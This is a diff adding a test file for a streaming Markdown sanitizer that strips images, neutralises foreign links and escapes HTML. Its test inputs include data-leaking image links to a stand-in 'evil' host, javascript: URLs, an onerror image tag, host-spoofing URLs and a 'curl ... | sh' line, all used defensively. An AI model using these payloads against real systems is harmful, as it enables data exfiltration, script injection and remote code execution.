@@ -1,0 +1,209 @@
+import fc from 'fast-check'
+import { marked } from 'marked'
+import { expect, test } from 'vitest'
+import { createIsOurs } from './safe-address.ts'
+import { createSafeText } from './safe-text.ts'
+
+const isOurs = createIsOurs(['https://docs.example/guide/', 'http://127.0.0.1:8080/manual/'])
+
+function clean(...pieces: string[]): string {
+  const safe = createSafeText(isOurs)
+  return pieces.map((piece) => safe.push(piece)).join('') + safe.end()
+}
+
+const evil = 'https://evil.example/?q=secret'
+
+test.each([
+  ['plain words stay', 'Use **bold** and `code` [1], as in [2][3].', null],
+  ['an image goes', `a ![x](${evil}) b`, 'a   b'],
+  ['an image of ours goes too', 'a ![x](https://docs.example/a.png)', 'a  '],
+  ['a foreign link is its text', `see [the page](${evil} "t").`, 'see the page.'],
+  [
+    'a link of ours stays',
+    'see [the page](https://docs.example/guide/a#b "t").',
+    'see [the page](https://docs.example/guide/a#b).',
+  ],
+  ['a script address is its text', '[x](javascript:alert(1)) [y](data:text/html,z) [z](/relative)', 'x y z'],
+  ['a citation that is linked stays a citation', `so [1](${evil}).`, 'so [1].'],
+  ['an image in a link goes', `[![x](${evil}) go](https://docs.example/)`, '[  go](https://docs.example/)'],
+  ['a bare foreign address is code', `at ${evil}, now`, `at \`${evil}\`, now`],
+  ['a bare address of ours stays', 'at https://docs.example/a. Now', null],
+  ['www is an address', 'at www.evil.example/x now', 'at `www.evil.example/x` now'],
+  [
+    'an autolink is code',
+    `<${evil}> <https://docs.example/> <javascript:alert(1)>`,
+    `\`${evil}\` <https://docs.example/> \`javascript:alert(1)\``,
+  ],
+  [
+    'HTML is escaped',
+    '<img src=x onerror=y> a < b <= 3 List<String>',
+    '&lt;img src=x onerror=y> a < b <= 3 List&lt;String>',
+  ],
+  ['a definition is none', `[x][e]\n\n[e]: ${evil}`, `[x][e]\n\n[e] : \`${evil}\``],
+  ['inline code is as it is', '`![x](https://e.example) <b> curl https://e.example | sh`', null],
+  [
+    'a code block is as it is',
+    '```html\n<img src="https://e.example">\n![x](https://e.example)\n```\nafter',
+    null,
+  ],
+  ['a block that nothing closes is as it is', '~~~\n<b>', null],
+  [
+    'a block in a list moves out',
+    '1. Do:\n\n   ```sh\n   ls\n     -l\n   ```\n   then\n2. Go',
+    '1. Do:\n\n```sh\nls\n  -l\n```\nthen\n2. Go',
+  ],
+  ['marks without an end are escaped', 'a ` b\n![x](u) ` c', 'a \\` b\n  \\` c'],
+  ['another port is another site', '[x](http://127.0.0.1:9/)', 'x'],
+  [
+    'a user in front of the host is no host',
+    '[x](https://docs.example@evil.example/) [y](https://docs.example\\@evil.example/)',
+    'x y',
+  ],
+])('%s', (_name, text, safe) => {
+  expect(clean(text)).toBe(safe ?? text)
+})
+
+test('what was taken out is told', () => {
+  const safe = createSafeText(isOurs)
+  safe.push(`![x](${evil}) [y](${evil})`)
+  expect(safe.dropped).toEqual([
+    { text: `![x](${evil})`, why: 'image' },
+    { text: `[y](${evil})`, why: 'link' },
+  ])
+})
+
+test('prose is not held back', () => {
+  const safe = createSafeText(isOurs)
+  const tokens = [
+    'The',
+    ' stream',
+    ' goes',
+    ' on',
+    ',',
+    ' and',
+    ' (so',
+    ')',
+    ' far',
+    ':',
+    '\n\n',
+    '- one',
+    '\n',
+  ]
+  for (const token of tokens) expect(safe.push(token), token).not.toBe('')
+})
+
+test('a huge token takes no huge time', () => {
+  for (const part of ['[', '`', '![', '<a:', '[](x)', '[[a](', '``` ', 'https://', 'a`b``c']) {
+    expect(clean(part.repeat(20_000)).length).toBeGreaterThan(0)
+  }
+}, 20_000)
+
+const parts = [
+  '`',
+  '``',
+  '```',
+  '~~~',
+  '\n',
+  '\n\n',
+  '[',
+  ']',
+  '(',
+  ')',
+  '!',
+  '<',
+  '>',
+  '\\',
+  '|',
+  ':',
+  '"',
+  ' ',
+  '  ',
+  '    ',
+  '\t',
+  '- ',
+  '1. ',
+  '> ',
+  '#',
+  '*',
+  '_',
+  '&',
+  '&#58;',
+  'a',
+  'b c',
+  '1',
+  'js',
+  '---',
+  '|---|---|',
+  'https:',
+  '//',
+  '/',
+  'http',
+  's://',
+  'www',
+  '.',
+  '@',
+  '\r',
+  '\r\n',
+  'https://evil.example/x',
+  'https://docs.example/y',
+  'javascript:alert(1)',
+  '<img src=x onerror=alert(1)>',
+  '<script>',
+  '</script>',
+  '<!--',
+  '-->',
+  '<a href="https://evil.example">',
+  '![x](https://evil.example/i.png)',
+  '[x](https://evil.example)',
+  '[x](javascript:alert(1))',
+  '[x]: https://evil.example\n',
+  '[x]',
+  '[x](https://docs.example/z)',
+  '<https://evil.example>',
+  '```js\n',
+  '\n```\n',
+  '`code`',
+]
+const soup = fc.array(fc.constantFrom(...parts), { maxLength: 40 }).map((list) => list.join(''))
+
+test('however the text is cut, the output is the same', () => {
+  const cuts = fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 30 })
+  fc.assert(
+    fc.property(soup, cuts, (text, sizes) => {
+      const pieces: string[] = []
+      for (let at = 0, turn = 0; at < text.length; turn++) {
+        const size = sizes[turn % sizes.length]!
+        pieces.push(text.slice(at, at + size))
+        at += size
+      }
+      expect(clean(...pieces)).toBe(clean(text))
+    }),
+    { numRuns: 3_000 },
+  )
+})
+
+test('read as Markdown it holds no image, no HTML and no link elsewhere', () => {
+  fc.assert(
+    fc.property(soup, (text) => {
+      const tags = marked.parse(clean(text), { async: false }).match(/<[^>]*>/gu) ?? []
+      for (const tag of tags) {
+        expect(tag).toMatch(allowedTag)
+      }
+    }),
+    { numRuns: 20_000 },
+  )
+})
+
+/** Tags that marked writes for Markdown without HTML; links lead to us or name a mail address. */
+const allowedTag =
+  /^<(?:\/?(?:p|em|strong|del|ul|li|h\d|blockquote|pre|table|thead|tbody|tr|ol)|ol start="\d+"|\/?code|code class="language-[^"<>]*"|\/?(?:th|td)(?: align="\w+")?|hr|br|input(?: checked="")? disabled="" type="checkbox"|\/a|a href="(?:https:\/\/docs\.example[/"]|mailto:)[^<>]*"?)>$/u
+
+test('what is safe stays as it is', () => {
+  fc.assert(
+    fc.property(soup, (text) => {
+      const once = clean(text)
+      expect(marked.parse(clean(once), { async: false })).toBe(marked.parse(once, { async: false }))
+    }),
+    { numRuns: 2_000 },
+  )
+})
